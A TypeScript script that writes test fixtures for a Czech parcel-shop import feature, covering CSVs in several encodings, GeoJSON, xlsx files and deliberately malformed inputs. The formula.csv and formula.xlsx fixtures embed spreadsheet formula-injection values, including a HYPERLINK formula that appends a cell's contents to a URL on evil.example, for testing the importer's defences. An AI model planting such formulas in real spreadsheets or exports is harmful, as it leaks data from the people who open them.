import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import { writeFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
// Writes the import fixtures of src/testing/import-fixtures (issue 14): the same three places as
// Czech Excel, UTF-8 tools, GeoJSON and .xlsx write them, and every kind of bad file. Run from the
// repository root: `npx tsx scripts/make-import-fixtures.ts` (garbage.csv is new random bytes).

const dir = 'src/testing/import-fixtures/';
/** The first seeded place of the other demo e-shop (sandbox seed-places: seededUuid of its e-shop/0). */
const OTHER_ESHOP_PLACE = '28f38eba-1805-420e-ae71-b2326919493a';
const cz = [
  'Kód',
  'Název',
  'Typ',
  'Země',
  'Ulice',
  'Město',
  'PSČ',
  'Zeměpisná šířka',
  'Zeměpisná délka',
  'Telefon',
  'E-mail',
  'Poznámka',
  'Úložní doba',
  'Pondělí',
  'Úterý',
  'Středa',
  'Čtvrtek',
  'Pátek',
  'Sobota',
  'Neděle',
];
const week = [
  '08:00-12:00,13:00-18:00',
  '08:00-18:00',
  '08:00-18:00',
  '08:00-18:00',
  '08:00-17:00',
  '09:00-12:00',
  '',
];
const rows = (prefix: string) => [
  [
    `${prefix}-001`,
    'Papírnictví U Řeky',
    'PARCEL_SHOP',
    'CZ',
    'Náměstí Míru 12',
    'Třeboň',
    '379 01',
    '49,0036',
    '14,7706',
    '+420 384 721 111',
    'trebon@example.cz',
    'Vchod ze dvora',
    '7',
    ...week,
  ],
  [
    `${prefix}-002`,
    'Box Žižkov',
    'PARCEL_BOX',
    'CZ',
    'Seifertova 45',
    'Praha',
    '130 00',
    '50,0840',
    '14,4520',
    '+420 222 333 444',
    'zizkov@example.cz',
    '',
    '3',
    '00:00-24:00',
    '00:00-24:00',
    '00:00-24:00',
    '00:00-24:00',
    '00:00-24:00',
    '00:00-24:00',
    '00:00-24:00',
  ],
  [
    `${prefix}-003`,
    'Květinářství Šťastná',
    'PARCEL_SHOP',
    'CZ',
    'Husova 7',
    'České Budějovice',
    '370 01',
    '48,9745',
    '14,4743',
    '+420 387 111 222',
    'kvetiny@example.cz',
    'Zavřeno o svátcích',
    '5',
    ...week,
  ],
];
const csv = (header: string[], data: string[][], d: string) =>
  [header, ...data]
    .map((r) => r.map((c) => (c.includes(d) || c.includes('"') ? `"${c.replace(/"/g, '""')}"` : c)).join(d))
    .join('\r\n') + '\r\n';
// Czech Excel: semicolons and Windows-1250
writeFileSync(dir + 'places-cp1250-semicolon.csv', iconv.encode(csv(cz, rows('CP'), ';'), 'win1250'));
writeFileSync(
  dir + 'places-utf8-comma.csv',
  csv(
    cz,
    rows('U8').map((r) => r.map((c) => c.replace(/^(\d+),(\d+)$/, '$1.$2'))),
    ',',
  ),
);
writeFileSync(dir + 'places-utf8bom-semicolon.csv', '\uFEFF' + csv(cz, rows('BOM'), ';'));
// the OSM syntax in one column, English names
const en = [
  'originPickupPlaceId',
  'name',
  'type',
  'country',
  'street',
  'city',
  'zip',
  'lat',
  'lng',
  'phone',
  'email',
  'storageTimeInDays',
  'opening_hours',
];
writeFileSync(
  dir + 'places-osm-hours.csv',
  csv(
    en,
    [
      [
        'OSM-1',
        'Trafika Na Rohu',
        'PARCEL_SHOP',
        'CZ',
        'Lidická 3',
        'Brno',
        '602 00',
        '49.2000',
        '16.6000',
        '+420 541 000 111',
        'roh@example.cz',
        '7',
        'Mo-Fr 08:00-12:00,13:00-17:00; Sa 09:00-11:00; PH off',
      ],
      [
        'OSM-2',
        'Box Hlavní nádraží',
        'PARCEL_BOX',
        'CZ',
        'Nádražní 1',
        'Brno',
        '602 00',
        '49.1906',
        '16.6127',
        '+420 541 000 222',
        'box@example.cz',
        '3',
        '24/7',
      ],
    ],
    ',',
  ),
);
// bad input
writeFileSync(dir + 'empty.csv', '');
writeFileSync(dir + 'header-only.csv', cz.join(';') + '\r\n');
writeFileSync(dir + 'text-named.xlsx', csv(cz, rows('X'), ';'));
writeFileSync(dir + 'garbage.csv', randomBytes(4096));
const ragged = csv(cz, rows('RG'), ';').split('\r\n');
ragged[2] = ragged[2]!.split(';').slice(0, 10).join(';');
ragged[3] = ragged[3] + ';navíc;ještě';
writeFileSync(dir + 'ragged.csv', ragged.join('\r\n'));
writeFileSync(
  dir + 'open-quote.csv',
  cz.join(',') + '\r\n' + 'Q-1,"Neuzavřená uvozovka,PARCEL_SHOP,CZ\r\nQ-2,Druhý,PARCEL_SHOP,CZ\r\n',
);
const formula = rows('F');
formula[0]![1] = '=HYPERLINK("http://evil.example/?x="&A1;"Klikni")';
formula[1]![1] = "'=1+2";
formula[2]![11] = '@SUM(A1:A2)';
writeFileSync(dir + 'formula.csv', csv(cz, formula, ','));
const dup = rows('D');
dup[2]![0] = 'D-001';
writeFileSync(dir + 'duplicate-origin.csv', csv(cz, dup, ';'));
const other = rows('O');
writeFileSync(
  dir + 'other-eshop-id.csv',
  csv(
    ['id', ...cz],
    other.map((r, i) => [
      i === 0 ? OTHER_ESHOP_PLACE : i === 1 ? '0f0f0f0f-0000-4000-8000-000000000001' : '',
      ...r,
    ]),
    ';',
  ),
);
// two bad rows, for the journey: a wrong PSČ column name and a bad type
const two = rows('J');
two[1]![2] = 'BALIKOVNA';
two[2]![13] = 'od rána';
writeFileSync(
  dir + 'two-bad-rows.csv',
  csv(
    cz.map((h) => (h === 'PSČ' ? 'Poštovní směrovací číslo' : h)),
    two,
    ';',
  ),
);
// GeoJSON
const fc = {
  type: 'FeatureCollection',
  features: rows('G').map((r) => ({
    type: 'Feature',
    geometry: {
      type: 'Point',
      coordinates: [Number(r[8]!.replace(',', '.')), Number(r[7]!.replace(',', '.'))],
    },
    properties: {
      originPickupPlaceId: r[0],
      name: r[1],
      type: r[2],
      countryCode: r[3],
      location: { line1: r[4], city: r[5], zipCode: r[6] },
      phone: r[9],
      email: r[10],
      storageTimeInDays: Number(r[12]),
      openingHours: { regular: { monday: [{ from: '08:00', to: '17:00' }] }, exceptions: [] },
    },
  })),
};
writeFileSync(dir + 'places.geojson', JSON.stringify(fc, null, 2) + '\n');
writeFileSync(
  dir + 'not-points.geojson',
  JSON.stringify({
    type: 'FeatureCollection',
    features: [
      {
        type: 'Feature',
        geometry: {
          type: 'LineString',
          coordinates: [
            [0, 0],
            [1, 1],
          ],
        },
        properties: {},
      },
    ],
  }) + '\n',
);
// xlsx: the data on the second sheet, a note on the first
const wb = new ExcelJS.Workbook();
wb.addWorksheet('Poznámky').addRow(['Seznam poboček k importu']);
const sheet = wb.addWorksheet('Pobočky');
sheet.addRow(cz);
for (const r of rows('XL'))
  sheet.addRow(
    r.map((c, i) => (i === 12 ? Number(c) : i === 7 || i === 8 ? Number(c.replace(',', '.')) : c)),
  );
await wb.xlsx.writeFile(dir + 'places.xlsx');
const wb2 = new ExcelJS.Workbook();
const s2 = wb2.addWorksheet('List1');
s2.addRow(cz);
for (const r of rows('XF')) s2.addRow(r);
s2.getCell('B2').value = { formula: 'HYPERLINK("http://evil.example","Klikni")', result: 'Klikni' } as never;
await wb2.xlsx.writeFile(dir + 'formula.xlsx');
writeFileSync(dir + 'xlsx-named.csv', (await import('node:fs')).readFileSync(dir + 'places.xlsx'));
